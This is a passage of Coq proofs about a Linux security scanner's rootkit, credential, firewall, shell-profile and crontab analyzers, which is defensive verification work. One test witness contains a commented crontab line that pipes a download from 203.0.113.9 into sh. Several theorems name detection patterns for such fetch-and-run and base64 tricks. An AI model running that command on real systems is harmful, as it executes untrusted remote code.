                                  (CrontabAnalyzer.analyze data)).
Proof.
  split; [|split; [|split; [|split]]]; intros.
  - apply (wellNumbered_output RootkitAnalyzer.prefix RootkitAnalyzer.moduleName).
    unfold RootkitAnalyzer.analyze. cbv zeta. well_numbered.
  - apply (wellNumbered_output CredentialAnalyzer.prefix
                               CredentialAnalyzer.moduleName).
    unfold CredentialAnalyzer.analyze. cbv zeta. well_numbered.
  - apply (wellNumbered_output FirewallAnalyzer.prefix
                               FirewallAnalyzer.moduleName).
    unfold FirewallAnalyzer.analyze. cbv zeta. well_numbered.
  - apply (wellNumbered_output ShellAnalyzer.prefix ShellAnalyzer.moduleName).
    unfold ShellAnalyzer.analyze. cbv zeta. well_numbered.
  - apply (wellNumbered_output CrontabAnalyzer.prefix
                               CrontabAnalyzer.moduleName).
    unfold CrontabAnalyzer.analyze.
    apply wellNumbered_fold; [|apply wellNumbered_emitter0].
    intros e source He. apply wellNumbered_analyzeLines, He.
Qed.

(** ** Shape of the output of the analyzers *)

(** A loop that pushes a finding for every element that is not skipped
    emits, after what was there, the findings of the kept elements in
    order. *)
Lemma fold_push_shape {A B : Type} (proj : Finding -> B) (prefix : jsstring)
  (skip : A -> bool) (mk : A -> jsstring -> Finding) (g : A -> B)
  (xs : list A) (e : Emitter) :
  (forall x i, proj (mk x i) = g x) ->
  map proj (emitted (fold_left (fun e x => if skip x then e
                                           else push prefix (mk x) e) xs e))
  = map proj (emitted e)
    ++ map g (List.filter (fun x => negb (skip x)) xs).
Proof.
  intros Hg. revert e. induction xs as [|x xs IH]; intros e.
  - cbn. rewrite app_nil_r. reflexivity.
  - cbn [fold_left List.filter]. rewrite IH. destruct (skip x); cbn [negb].
    + reflexivity.
    + rewrite push_emitted, map_app, <- app_assoc. cbn [map app].
      rewrite Hg. reflexivity.
Qed.

Lemma fold_push_shape_all {A B : Type} (proj : Finding -> B)
  (prefix : jsstring) (mk : A -> jsstring -> Finding) (g : A -> B)
  (xs : list A) (e : Emitter) :
  (forall x i, proj (mk x i) = g x) ->
  map proj (emitted (fold_left (fun e x => push prefix (mk x) e) xs e))
  = map proj (emitted e) ++ map g xs.
Proof.
  intros Hg. revert e. induction xs as [|x xs IH]; intros e.
  - cbn. rewrite app_nil_r. reflexivity.
  - cbn [fold_left]. rewrite IH, push_emitted, map_app, <- app_assoc.
    cbn [map app]. rewrite Hg. reflexivity.
Qed.

(** X15: the output of the rootkit analyzer is, in this order: the
    CRITICAL preload finding when the trimmed preload text is not empty; one
    HIGH finding per suspicious shared library, in the order of the input,
    with the path of the library as its details; the CRITICAL finding of the
    known-malware directory when the directory exists, with the listed files
    as its details. Missing fields count as empty. *)
Theorem X15_rootkit_output (data : RootkitAnalyzer.Data) :
  let content := trim (default [] (RootkitAnalyzer.ldPreload data)) in
  let soFiles := default [] (RootkitAnalyzer.suspiciousSoFiles data) in
  map shape (RootkitAnalyzer.analyze data)
  = (if 0 <? length content then
       [(CRITICAL, PRELOAD_TITLE,
         Some (JObj [(js "file", JStr (js "/etc/ld.so.preload"));
                     (js "entries",
                      JStrs (RootkitAnalyzer.preloadEntriesOf content));
                     (js "rawContent", JStr content)]))]
     else [])
    ++ map (fun soFile =>
              (HIGH, js "Suspicious shared library in non-standard location",
               Some (JObj [(js "path", JStr soFile)]))) soFiles
    ++ (if default false (RootkitAnalyzer.etcDataExists data) then
          [(CRITICAL,
            js "Known malware directory /etc/data detected (Kinsing)",
            Some (JObj [(js "path", JStr (js "/etc/data"));
                        (js "files",
                         JStrs (default [] (RootkitAnalyzer.etcDataFiles data)))]))]
        else [])
  /\ length (RootkitAnalyzer.analyze data)
     = (if 0 <? length content then 1 else 0) + length soFiles
       + (if default false (RootkitAnalyzer.etcDataExists data) then 1 else 0).
Proof.
  cbn zeta.
  match goal with |- ?L = ?R /\ _ => assert (H : L = R) end.
  { unfold RootkitAnalyzer.analyze. cbv zeta.
    set (content := trim (default [] (RootkitAnalyzer.ldPreload data))).
    set (e1 := if 0 <? length content then _ else emitter0).
    assert (H1 : map shape (emitted e1)
                 = if 0 <? length content then
                     [(CRITICAL, PRELOAD_TITLE,
                       Some (JObj [(js "file", JStr (js "/etc/ld.so.preload"));
                                   (js "entries",
                                    JStrs (RootkitAnalyzer.preloadEntriesOf
                                             content));
                                   (js "rawContent", JStr content)]))]
                   else []).
    { unfold e1. destruct (0 <? length content); reflexivity. }
    destruct (default false (RootkitAnalyzer.etcDataExists data)).
    - rewrite push_emitted, map_app.
      rewrite (fold_push_shape_all shape RootkitAnalyzer.prefix
                 RootkitAnalyzer.soFinding
                 (fun soFile =>
                    (HIGH,
                     js "Suspicious shared library in non-standard location",
                     Some (JObj [(js "path", JStr soFile)]))))
        by reflexivity.
      rewrite H1, <- app_assoc. reflexivity.
    - rewrite (fold_push_shape_all shape RootkitAnalyzer.prefix
                 RootkitAnalyzer.soFinding
                 (fun soFile =>
                    (HIGH,
                     js "Suspicious shared library in non-standard location",
                     Some (JObj [(js "path", JStr soFile)]))))
        by reflexivity.
      rewrite H1, ?app_nil_r. reflexivity. }
  split; [exact H|].
  rewrite <- (length_map shape), H, !length_app, length_map.
  destruct (0 <? length _), (default false _); cbn [length]; lia.
Qed.

(** X16: the output of the credentials analyzer is, in this order: one
    MEDIUM finding per environment file; one HIGH finding per service
    account key whose path is not blank (a blank path gives no finding and
    uses no identifier); one MEDIUM finding when the git credentials text is
    not empty; one INFO finding when private keys were found. *)
Theorem X16_credentials_output (formatSize : jsstring -> jsstring)
  (data : CredentialAnalyzer.Data) :
  let envFiles := default [] (CredentialAnalyzer.envFiles data) in
  let keys :=
    List.filter (fun keyPath => negb (length (trim keyPath) =? 0))
                (default [] (CredentialAnalyzer.serviceAccountKeys data)) in
  let sshKeys := default [] (CredentialAnalyzer.sshPrivateKeys data) in
  map (fun f => (severity f, title f))
      (CredentialAnalyzer.analyze formatSize data)
  = map (fun _ => (MEDIUM, js "Environment file with potential secrets"))
        envFiles
    ++ map (fun _ => (HIGH, js "Service account key file on disk")) keys
    ++ (match CredentialAnalyzer.gitCredentials data with
        | Some text =>
            if 0 <? length text then
              [(MEDIUM, js "Git credentials stored in plaintext")]
            else []
        | None => []
        end)
    ++ (if 0 <? length sshKeys then
          [(INFO, js "SSH private keys found on disk")]
        else []).
Proof.
  cbn zeta. unfold CredentialAnalyzer.analyze. cbv zeta.
  set (proj := fun f : Finding => (severity f, title f)).
  set (e1 := fold_left _ (default [] (CredentialAnalyzer.envFiles data)) _).
  set (e2 := fold_left _ (default [] (CredentialAnalyzer.serviceAccountKeys
                                        data)) _).
  set (e3 := match CredentialAnalyzer.gitCredentials data with
             | Some _ => _ | None => _ end).
  assert (H1 : map proj (emitted e1)
               = map (fun _ => (MEDIUM,
                                js "Environment file with potential secrets"))
                     (default [] (CredentialAnalyzer.envFiles data))).
  { unfold e1.
    rewrite (fold_push_shape_all proj CredentialAnalyzer.prefix
               (CredentialAnalyzer.envFinding formatSize)
               (fun _ => (MEDIUM,
                          js "Environment file with potential secrets")))
      by reflexivity.
    reflexivity. }
  assert (H2 : map proj (emitted e2)
               = map proj (emitted e1)
                 ++ map (fun _ => (HIGH, js "Service account key file on disk"))
                        (List.filter
                           (fun keyPath => negb (length (trim keyPath) =? 0))
                           (default [] (CredentialAnalyzer.serviceAccountKeys
                                          data)))).
  { unfold e2.
    apply (fold_push_shape proj CredentialAnalyzer.prefix
             (fun keyPath => length (trim keyPath) =? 0)
             CredentialAnalyzer.keyFinding
             (fun _ => (HIGH, js "Service account key file on disk"))).
    reflexivity. }
  assert (H3 : map proj (emitted e3)
               = map proj (emitted e2)
                 ++ match CredentialAnalyzer.gitCredentials data with
                    | Some text =>
                        if 0 <? length text then
                          [(MEDIUM, js "Git credentials stored in plaintext")]
                        else []
                    | None => []
                    end).
  { unfold e3. destruct (CredentialAnalyzer.gitCredentials data) as [text|];
      [|rewrite app_nil_r; reflexivity].
    destruct (0 <? length text); [|rewrite app_nil_r; reflexivity].
    rewrite push_emitted, map_app. reflexivity. }
  destruct (0 <? length (default [] (CredentialAnalyzer.sshPrivateKeys data))).
  - rewrite push_emitted, map_app, H3, H2, H1, <- !app_assoc. reflexivity.
  - rewrite H3, H2, H1, <- !app_assoc, app_nil_r. reflexivity.
Qed.

(** X17: the firewall analyzer reports at most three findings, none of
    them CRITICAL, LOW or INFO; it reports nothing exactly when UFW is
    active, fail2ban runs with an sshd (or ssh) jail, and SSH is not found
    open to all. *)
Theorem X17_firewall_output (toLowerCase : jsstring -> jsstring)
  (data : FirewallAnalyzer.Data) :
  let ufw := default (FirewallAnalyzer.mkUfwData false [])
                     (FirewallAnalyzer.ufw data) in
  let fail2ban := default (FirewallAnalyzer.mkFail2banData false [] [])
                          (FirewallAnalyzer.fail2ban data) in
  let iptables := default [] (FirewallAnalyzer.iptables data) in
  let fs := FirewallAnalyzer.analyze toLowerCase data in
  length fs <= 3
  /\ Forall (fun f => severity f = HIGH \/ severity f = MEDIUM) fs
  /\ (fs = [] <->
      FirewallAnalyzer.active ufw = true
      /\ FirewallAnalyzer.running fail2ban = true
      /\ hasSshdJail toLowerCase (FirewallAnalyzer.jails fail2ban) = true
      /\ FirewallAnalyzer.isSshOpenToAll ufw iptables = false).
Proof.
  cbn zeta. unfold FirewallAnalyzer.analyze. cbv zeta.
  fold (hasSshdJail toLowerCase
          (FirewallAnalyzer.jails
             (default (FirewallAnalyzer.mkFail2banData false [] [])
                      (FirewallAnalyzer.fail2ban data)))).
  destruct (FirewallAnalyzer.active _), (FirewallAnalyzer.running _),
    (hasSshdJail _ _), (FirewallAnalyzer.isSshOpenToAll _ _);
    cbn [negb]; rewrite ?push_emitted; cbn [emitted emitter0 app length];
    (split; [lia|]);
    (split;
     [repeat (constructor;
              [first [left; reflexivity | right; reflexivity]|]);
      constructor|]);
    (split;
     [intros H; first [discriminate H | repeat split; reflexivity]
     | intros (H1 & H2 & H3 & H4);
       first [discriminate H1 | discriminate H2 | discriminate H3
             | discriminate H4 | reflexivity]]).
Qed.

(** X18: the iptables listing can change whether SSH counts as open to
    all only when UFW is active and its rules text is empty: with UFW
    inactive, or with a rules text that is not empty, the verdict is the
    same for every iptables listing; with UFW active and rules given, it is
    the verdict of the UFW rules. *)
Theorem X18_iptables_seldom_consulted :
  (forall (ufw : FirewallAnalyzer.UfwData) (iptables1 iptables2 : jsstring),
     FirewallAnalyzer.active ufw = false
     \/ FirewallAnalyzer.rules ufw <> [] ->
     FirewallAnalyzer.isSshOpenToAll ufw iptables1
     = FirewallAnalyzer.isSshOpenToAll ufw iptables2)
  /\ (forall (ufw : FirewallAnalyzer.UfwData) (iptables : jsstring),
        FirewallAnalyzer.active ufw = true ->
        FirewallAnalyzer.rules ufw <> [] ->
        FirewallAnalyzer.isSshOpenToAll ufw iptables
        = FirewallAnalyzer.ufwAllowsSshFromAnywhere
            (split newline (FirewallAnalyzer.rules ufw))).
Proof.
  assert (Hrules : forall ufw iptables,
            FirewallAnalyzer.active ufw = true ->
            FirewallAnalyzer.rules ufw <> [] ->
            FirewallAnalyzer.isSshOpenToAll ufw iptables
            = FirewallAnalyzer.ufwAllowsSshFromAnywhere
                (split newline (FirewallAnalyzer.rules ufw))).
  { intros ufw iptables Ha Hr. unfold FirewallAnalyzer.isSshOpenToAll.
    rewrite Ha. destruct (FirewallAnalyzer.rules ufw); [congruence|].
    reflexivity. }
  split; [|exact Hrules].
  intros ufw iptables1 iptables2 H.
  destruct (FirewallAnalyzer.active ufw) eqn:Ha.
  - destruct H as [H|H]; [discriminate H|].
    rewrite !Hrules by assumption. reflexivity.
  - rewrite !isSshOpenToAll_inactive by exact Ha. reflexivity.
Qed.

(** UFW allows SSH from one network only; an iptables listing whose INPUT
    policy is ACCEPT does not change the verdict. *)
Lemma X18_iptables_seldom_consulted_witness :
  let ufw := FirewallAnalyzer.mkUfwData true
               (js "22/tcp                     ALLOW IN    10.0.0.0/8") in
  (FirewallAnalyzer.active ufw = false \/ FirewallAnalyzer.rules ufw <> [])
  /\ FirewallAnalyzer.isSshOpenToAll ufw (js "Chain INPUT (policy ACCEPT)")
     = FirewallAnalyzer.isSshOpenToAll ufw [].
Proof.
  cbn zeta.
  assert (H : FirewallAnalyzer.active
                (FirewallAnalyzer.mkUfwData true
                   (js "22/tcp                     ALLOW IN    10.0.0.0/8"))
              = false
              \/ FirewallAnalyzer.rules
                   (FirewallAnalyzer.mkUfwData true
                      (js "22/tcp                     ALLOW IN    10.0.0.0/8"))
                 <> [])
    by (right; discriminate).
  split; [exact H|].
  exact (proj1 X18_iptables_seldom_consulted _
               (js "Chain INPUT (policy ACCEPT)") [] H).
Defined.

(** ** Regular expressions on literal patterns *)

Lemma run_seqs_cons (r : RegExp.regex) (rs : list RegExp.regex)
  (prev : option N) (s : jsstring) (k : RegExp.cont) :
  RegExp.run (RegExp.seqs (r :: rs)) prev s k
  = RegExp.run r prev s (fun prev' s' => RegExp.run (RegExp.seqs rs) prev' s' k).
Proof. destruct rs; reflexivity. Qed.

Lemma run_literal (cs : jsstring) (prev : option N) (s : jsstring)
  (k : RegExp.cont) :
  RegExp.run (literal cs) prev s k
  = if startsWith s cs
    then k (List.last (map Some cs) prev) (skipn (length cs) s)
    else None.
Proof.
  revert prev s. induction cs as [|c cs IH]; intros prev s.
  - destruct s; reflexivity.
  - unfold literal. cbn [map]. rewrite run_seqs_cons.
    fold (literal cs). cbn [RegExp.run].
    destruct s as [|d s]; [reflexivity|].
    cbn [startsWith length skipn]. unfold char_eqb.
    destruct (N.eqb_spec c d) as [<-|Hne]; [|reflexivity].
    cbn [andb]. rewrite IH.
    destruct (startsWith s cs); [|reflexivity].
    f_equal. destruct cs as [|c' cs]; [reflexivity|].
    cbn [map List.last]. generalize (Some c') (map Some cs).
    intros a l. revert a. induction l as [|b l IHl]; intros a; [reflexivity|].
    cbn [List.last]. apply IHl.
Qed.

Lemma test_literal (cs s : jsstring) :
  RegExp.test (literal cs) s = includes s cs.
Proof.
  unfold RegExp.test, RegExp.exec. generalize (@None N).
  induction s as [|d s IH]; intros prev.
  - cbn [RegExp.execFrom includes]. unfold RegExp.matchHere.
    rewrite run_literal. destruct (startsWith [] cs); reflexivity.
  - cbn [RegExp.execFrom includes]. unfold RegExp.matchHere.
    rewrite run_literal. destruct (startsWith (d :: s) cs); [reflexivity|].
    cbn [orb]. apply IH.
Qed.

Lemma includes_refl (s : jsstring) : includes s s = true.
Proof.
  assert (H : startsWith s s = true)
    by (apply startsWith_spec; exists []; rewrite app_nil_r; reflexivity).
  destruct s; cbn [includes]; rewrite H; reflexivity.
Qed.

(** X19: in the iptables listing, a rule line of the INPUT chain counts as
    accepting SSH from anywhere as soon as it contains the three texts
    dpt:22, 0.0.0.0/0 and ACCEPT, wherever they stand in the line (each
    pattern is a plain substring test, so dpt:2222 counts as well): if no
    line since the header of the chain starts with Chain, such a line makes
    the loop answer true. *)
Theorem X19_iptables_rule_by_substrings :
  (forall line : jsstring,
     RegExp.test FirewallAnalyzer.RE_dpt22 line = includes line (js "dpt:22")
     /\ RegExp.test FirewallAnalyzer.RE_any_source line
        = includes line (js "0.0.0.0/0")
     /\ RegExp.test FirewallAnalyzer.RE_accept line
        = includes line (js "ACCEPT"))
  /\ (forall (before : list jsstring) (line : jsstring)
             (after : list jsstring),
        Forall (fun l => startsWith l (js "Chain") = false) before ->
        startsWith line (js "Chain") = false ->
        includes line (js "dpt:22") = true ->
        includes line (js "0.0.0.0/0") = true ->
        includes line (js "ACCEPT") = true ->
        FirewallAnalyzer.iptablesAcceptsSsh true (before ++ line :: after)
        = true).
Proof.
  assert (Htests : forall line : jsstring,
            RegExp.test FirewallAnalyzer.RE_dpt22 line
            = includes line (js "dpt:22")
            /\ RegExp.test FirewallAnalyzer.RE_any_source line
               = includes line (js "0.0.0.0/0")
            /\ RegExp.test FirewallAnalyzer.RE_accept line
               = includes line (js "ACCEPT")).
  { intros line. repeat split; apply test_literal. }
  assert (Hinput : forall l, startsWith l (js "Chain") = false ->
                             startsWith l (js "Chain INPUT") = false).
  { intros l Hl. destruct (startsWith l (js "Chain INPUT")) eqn:H;
      [|reflexivity].
    apply startsWith_spec in H as [t ->].
    assert (startsWith (js "Chain INPUT" ++ t) (js "Chain") = true)
      by (apply startsWith_spec; exists (js " INPUT" ++ t); reflexivity).
    congruence. }
  split; [exact Htests|].
  intros before line after Hbefore Hline H1 H2 H3.
  induction Hbefore as [|l before Hl _ IH].
  - cbn [app FirewallAnalyzer.iptablesAcceptsSsh].
    rewrite (Hinput _ Hline), Hline. cbn [negb].
    destruct (Htests line) as (-> & -> & ->). rewrite H1, H2, H3.
    reflexivity.
  - cbn [app FirewallAnalyzer.iptablesAcceptsSsh].
    rewrite (Hinput _ Hl), Hl. cbn [negb].
    destruct (_ && _); [reflexivity | exact IH].
Qed.

(** A DROP rule for port 2222 whose comment says ACCEPT counts as an open
    SSH port. *)
Lemma X19_iptables_rule_by_substrings_witness :
  let line := js "DROP tcp -- 0.0.0.0/0 0.0.0.0/0 tcp dpt:2222 /* was ACCEPT */" in
  FirewallAnalyzer.iptablesAcceptsSsh true
    ([js "target prot opt source destination"] ++ line :: [])
  = true.
Proof.
  cbn zeta.
  apply (proj2 X19_iptables_rule_by_substrings
               [js "target prot opt source destination"]);
    [repeat constructor | reflexivity..].
Defined.

(** ** Shell profile entries *)

(** X20: the shell analyzer reports one finding per suspicious entry, in
    the order of the entries, each HIGH or MEDIUM. An entry is MEDIUM exactly
    when its lower-cased pattern is not one of the high patterns and contains
    or is contained in one of the medium patterns (base64, exec,
    python.*http), which holds in particular when it lower-cases to the empty
    text; every other pattern is HIGH. *)
Theorem X20_shell_output (toLowerCase : jsstring -> jsstring) :
  (forall data : ShellAnalyzer.Data,
     map severity (ShellAnalyzer.analyze toLowerCase data)
     = map (fun entry =>
              ShellAnalyzer.classifySeverity toLowerCase
                (ShellAnalyzer.matchedPattern entry))
           (default [] (ShellAnalyzer.suspiciousEntries data))
     /\ length (ShellAnalyzer.analyze toLowerCase data)
        = length (default [] (ShellAnalyzer.suspiciousEntries data)))
  /\ (forall pattern : jsstring,
        let lower := toLowerCase pattern in
        ShellAnalyzer.classifySeverity toLowerCase pattern
        = if ShellAnalyzer.has ShellAnalyzer.HIGH_SEVERITY_PATTERNS lower
          then HIGH
          else if existsb (fun p => includes lower p || includes p lower)
                          ShellAnalyzer.MEDIUM_SEVERITY_PATTERNS
               then MEDIUM
               else HIGH).
Proof.
  split.
  - intros data.
    assert (H : map severity (ShellAnalyzer.analyze toLowerCase data)
                = map (fun entry =>
                         ShellAnalyzer.classifySeverity toLowerCase
                           (ShellAnalyzer.matchedPattern entry))
                      (default [] (ShellAnalyzer.suspiciousEntries data))).
    { unfold ShellAnalyzer.analyze.
      rewrite (fold_push_shape_all severity ShellAnalyzer.prefix
                 (ShellAnalyzer.entryFinding toLowerCase)
                 (fun entry =>
                    ShellAnalyzer.classifySeverity toLowerCase
                      (ShellAnalyzer.matchedPattern entry)))
        by reflexivity.
      reflexivity. }
    split; [exact H|].
    rewrite <- (length_map severity), H, length_map. reflexivity.
  - intros pattern. cbn zeta. unfold ShellAnalyzer.classifySeverity.
    destruct (ShellAnalyzer.has ShellAnalyzer.HIGH_SEVERITY_PATTERNS _);
      [reflexivity|].
    destruct (ShellAnalyzer.has ShellAnalyzer.MEDIUM_SEVERITY_PATTERNS
                (toLowerCase pattern)) eqn:Hm; [|reflexivity].
    unfold ShellAnalyzer.has in Hm. apply existsb_exists in Hm as (p & Hp & He).
    apply str_eqb_eq in He. subst p.
    assert (Hex : existsb (fun p => includes (toLowerCase pattern) p
                                    || includes p (toLowerCase pattern))
                          ShellAnalyzer.MEDIUM_SEVERITY_PATTERNS = true).
    { apply existsb_exists. exists (toLowerCase pattern).
      split; [exact Hp|]. rewrite includes_refl. reflexivity. }
    rewrite Hex. reflexivity.
Qed.

(** ** Crontab lines *)

Lemma analyzeLine_bound (source : CrontabAnalyzer.Source) (i : nat)
  (raw : jsstring) (e : Emitter) :
  exists new : list Finding,
    emitted (CrontabAnalyzer.analyzeLine source i raw e) = emitted e ++ new
    /\ length new <= 3
    /\ Forall (fun f => severity f = CRITICAL \/ severity f = HIGH) new
    /\ ((length (trim raw) =? 0) || startsWith (trim raw) (js "#")
        || RegExp.test CrontabAnalyzer.ASSIGNMENT_RE (trim raw) = true ->
        new = []).
Proof.
  unfold CrontabAnalyzer.analyzeLine. cbv zeta.
  destruct (_ || _).
  - exists []. rewrite app_nil_r. repeat split; auto.
  - destruct (RegExp.test CrontabAnalyzer.DOWNLOAD_PIPE_RE _),
      (RegExp.test CrontabAnalyzer.BASE64_RE _),
      (RegExp.exec CrontabAnalyzer.TMP_EXEC_RE _),
      (RegExp.exec CrontabAnalyzer.HIDDEN_DIR_EXEC_RE _);
      rewrite ?push_emitted, <- ?app_assoc; cbn [app];
      (eexists; split;
       [first [reflexivity | symmetry; apply app_nil_r]
       | split; [cbn [length]; lia
                | split; [repeat (constructor;
                                  [first [left; reflexivity
                                         | right; reflexivity]|]);
                          constructor
                         | discriminate]]]).
Qed.

Lemma analyzeLines_bound (source : CrontabAnalyzer.Source)
  (lines : list jsstring) (i : nat) (e : Emitter) :
  exists new : list Finding,
    emitted (CrontabAnalyzer.analyzeLines source i lines e) = emitted e ++ new
    /\ length new <= 3 * length lines
    /\ Forall (fun f => severity f = CRITICAL \/ severity f = HIGH) new.
Proof.
  revert i e. induction lines as [|raw lines IH]; intros i e.
  - exists []. rewrite app_nil_r. repeat split; auto.
  - cbn [CrontabAnalyzer.analyzeLines].
    destruct (analyzeLine_bound source i raw e) as (n1 & H1 & L1 & F1 & _).
    destruct (IH (S i) (CrontabAnalyzer.analyzeLine source i raw e))
      as (n2 & H2 & L2 & F2).
    exists (n1 ++ n2). rewrite H2, H1, <- app_assoc.
    split; [reflexivity|]. split.
    + rewrite length_app. cbn [length]. lia.
    + apply Forall_app. split; assumption.
Qed.

(** X21: in the crontab analyzer a line that is blank, a comment or a
    variable assignment gives no finding; any other line gives at most three
    findings, so the output has at most three findings per line of the
    sources; every finding is CRITICAL or HIGH. *)
Theorem X21_crontab_output :
  (forall source i raw e,
     (length (trim raw) =? 0) || startsWith (trim raw) (js "#")
     || RegExp.test CrontabAnalyzer.ASSIGNMENT_RE (trim raw) = true ->
     CrontabAnalyzer.analyzeLine source i raw e = e)
  /\ (forall data : CrontabAnalyzer.Data,
        length (CrontabAnalyzer.analyze data) <= 3 * length (crontabLines data)
        /\ Forall (fun f => severity f = CRITICAL \/ severity f = HIGH)
                  (CrontabAnalyzer.analyze data)).
Proof.
  split.
  - intros source i raw e H. unfold CrontabAnalyzer.analyzeLine. cbv zeta.
    rewrite H. reflexivity.
  - intros data. unfold CrontabAnalyzer.analyze, crontabLines.
    assert (H : forall sources e,
              exists new,
                emitted (fold_left CrontabAnalyzer.analyzeSource sources e)
                = emitted e ++ new
                /\ length new
                   <= 3 * length (concat
                                    (map (fun source =>
                                            split newline
                                              (CrontabAnalyzer.content source))
                                         sources))
                /\ Forall (fun f => severity f = CRITICAL \/ severity f = HIGH)
                          new).
    { induction sources as [|source sources IH]; intros e.
      - exists []. rewrite app_nil_r. repeat split; auto.
      - cbn [fold_left map concat]. unfold CrontabAnalyzer.analyzeSource at 2.
        destruct (analyzeLines_bound source
                    (split newline (CrontabAnalyzer.content source)) 0 e)
          as (n1 & H1 & L1 & F1).
        destruct (IH (CrontabAnalyzer.analyzeLines source 0
                        (split newline (CrontabAnalyzer.content source)) e))
          as (n2 & H2 & L2 & F2).
        exists (n1 ++ n2). rewrite H2, H1, <- app_assoc.
        split; [reflexivity|]. split.
        + rewrite !length_app. lia.
        + apply Forall_app. split; assumption. }
    destruct (H (CrontabAnalyzer.sourcesOf data) emitter0)
      as (new & -> & Hlen & Hsev).
    cbn [emitted emitter0 app]. split; assumption.
Qed.

(** A comment line leaves the findings as they are. *)
Lemma X21_crontab_output_witness :
  CrontabAnalyzer.analyzeLine
    (CrontabAnalyzer.mkSource (js "root crontab") [])
    0 (js "  # curl http://203.0.113.9/i.sh | sh") emitter0
  = emitter0.
Proof.
  apply (proj1 X21_crontab_output). reflexivity.
Defined.

(** ** Matched text *)

Lemma run_star_char (p : N -> bool) (prev : option N) (c : N) (s : jsstring)
  (k : RegExp.cont) :
  RegExp.run (RegExp.Star (RegExp.Char p)) prev (c :: s) k
  = if p c then
      match RegExp.run (RegExp.Star (RegExp.Char p)) (Some c) s k with
      | Some rest => Some rest
      | None => k prev (c :: s)
      end
    else k prev (c :: s).
Proof.
  cbn [RegExp.run length]. destruct (p c); [|reflexivity].
  replace (length s <? S (length s)) with true
    by (symmetry; apply Nat.ltb_lt; lia).
  reflexivity.
Qed.

Lemma run_star_nonSpace (prev : option N) (s : jsstring) :
  RegExp.run (RegExp.Star RegExp.nonSpace) prev s (fun _ rest => Some rest)
  = Some (fromSpace s).
Proof.
  revert prev. induction s as [|c s IH]; intros prev; [reflexivity|].
  unfold RegExp.nonSpace. rewrite run_star_char.
  fold RegExp.nonSpace. rewrite IH. cbn [fromSpace].
  destruct (isWhiteSpace c); reflexivity.
Qed.

Lemma run_plus_nonSpace (prev : option N) (s : jsstring) :
  RegExp.run (RegExp.Plus RegExp.nonSpace) prev s (fun _ rest => Some rest)
  = match s with
    | c :: s' => if isWhiteSpace c then None else Some (fromSpace s')
    | [] => None
    end.
Proof.
  unfold RegExp.Plus. cbn [RegExp.run].
  unfold RegExp.nonSpace at 1. cbn [RegExp.run].
  destruct s as [|c s]; [reflexivity|].
  destruct (isWhiteSpace c); cbn [negb]; [reflexivity|].
  apply run_star_nonSpace.
Qed.

Lemma untilSpace_fromSpace (s : jsstring) : untilSpace s ++ fromSpace s = s.
Proof.
  induction s as [|c s IH]; [reflexivity|]. cbn [untilSpace fromSpace].
  destruct (isWhiteSpace c); [reflexivity|]. cbn [app]. rewrite IH.
  reflexivity.
Qed.

Lemma firstn_all_but (a b : jsstring) :
  firstn (length (a ++ b) - length b) (a ++ b) = a.
Proof.
  rewrite length_app. replace (length a + length b - length b) with (length a)
    by lia.
  rewrite firstn_app, firstn_all, Nat.sub_diag. cbn. apply app_nil_r.
Qed.

(** What the pattern matches at a position is the path that starts there. *)
Lemma matchHere_tmp (prev : option N) (s : jsstring) :
  RegExp.matchHere CrontabAnalyzer.TMP_EXEC_RE prev s = tmpPathHere s.
Proof.
  assert (Hdir : forall dir s1,
            match
              match s1 with
              | c :: s' => if isWhiteSpace c then None else Some (fromSpace s')
              | [] => None
              end
            with
            | Some rest => Some (firstn (length (dir ++ s1) - length rest)
                                        (dir ++ s1))
            | None => None
            end
            = match s1 with
              | c :: _ =>
                  if isWhiteSpace c then None
                  else Some (dir ++ untilSpace s1)
              | [] => None
              end).
  { intros dir [|c s1]; [reflexivity|].
    cbn [untilSpace]. destruct (isWhiteSpace c); [reflexivity|].
    f_equal.
    assert (E : dir ++ c :: s1 = (dir ++ c :: untilSpace s1) ++ fromSpace s1).
    { rewrite <- app_assoc. cbn [app]. rewrite untilSpace_fromSpace.
      reflexivity. }
    rewrite E. apply firstn_all_but. }
  assert (H12 : forall t, startsWith (js "/tmp/" ++ t) (js "/var/tmp/") = false)
    by reflexivity.
  assert (H13 : forall t, startsWith (js "/tmp/" ++ t) (js "/dev/shm/") = false)
    by reflexivity.
  assert (H23 : forall t,
            startsWith (js "/var/tmp/" ++ t) (js "/dev/shm/") = false)
    by reflexivity.
  unfold RegExp.matchHere, CrontabAnalyzer.TMP_EXEC_RE, tmpPathHere, TMP_DIRS.
  rewrite run_seqs_cons.
  change (RegExp.lit "/tmp/") with (literal (js "/tmp/")).
  change (RegExp.lit "/var/tmp/") with (literal (js "/var/tmp/")).
  change (RegExp.lit "/dev/shm/") with (literal (js "/dev/shm/")).
  cbn [RegExp.alts RegExp.seqs RegExp.run List.find].
  rewrite !run_literal, !run_plus_nonSpace.
  destruct (startsWith s (js "/tmp/")) eqn:H1.
  { apply startsWith_spec in H1 as [s1 ->]. rewrite H12, H13.
    rewrite skipn_app, skipn_all, Nat.sub_diag, skipn_O. cbn [app].
    rewrite <- (Hdir (js "/tmp/") s1).
    destruct s1 as [|c s1]; [reflexivity|].
    destruct (isWhiteSpace c); reflexivity. }
  destruct (startsWith s (js "/var/tmp/")) eqn:H2.
  { apply startsWith_spec in H2 as [s1 ->]. rewrite H23.
    rewrite skipn_app, skipn_all, Nat.sub_diag, skipn_O. cbn [app].
    rewrite <- (Hdir (js "/var/tmp/") s1).
    destruct s1 as [|c s1]; [reflexivity|].
    destruct (isWhiteSpace c); reflexivity. }
  destruct (startsWith s (js "/dev/shm/")) eqn:H3; [|reflexivity].
  apply startsWith_spec in H3 as [s1 ->].
  rewrite skipn_app, skipn_all, Nat.sub_diag, skipn_O. cbn [app].
  rewrite <- (Hdir (js "/dev/shm/") s1).
  destruct s1 as [|c s1]; [reflexivity|].
  destruct (isWhiteSpace c); reflexivity.
Qed.

Lemma exec_tmp (line : jsstring) :
  RegExp.exec CrontabAnalyzer.TMP_EXEC_RE line = firstTmpPath line.
Proof.
  unfold RegExp.exec. generalize (@None N).
  induction line as [|c line IH]; intros prev;
    cbn [RegExp.execFrom firstTmpPath]; rewrite matchHere_tmp;
    destruct (tmpPathHere _); try reflexivity.
  apply IH.
Qed.

Lemma untilSpace_spec (s : jsstring) :
  Forall (fun c => isWhiteSpace c = false) (untilSpace s)
  /\ match fromSpace s with
     | c :: _ => isWhiteSpace c = true
     | [] => True
     end.
Proof.
  induction s as [|c s [IH1 IH2]]; [split; [constructor | exact I]|].
  cbn [untilSpace fromSpace]. destruct (isWhiteSpace c) eqn:Hc.
  - split; [constructor | exact Hc].
  - split; [constructor; assumption | exact IH2].
Qed.

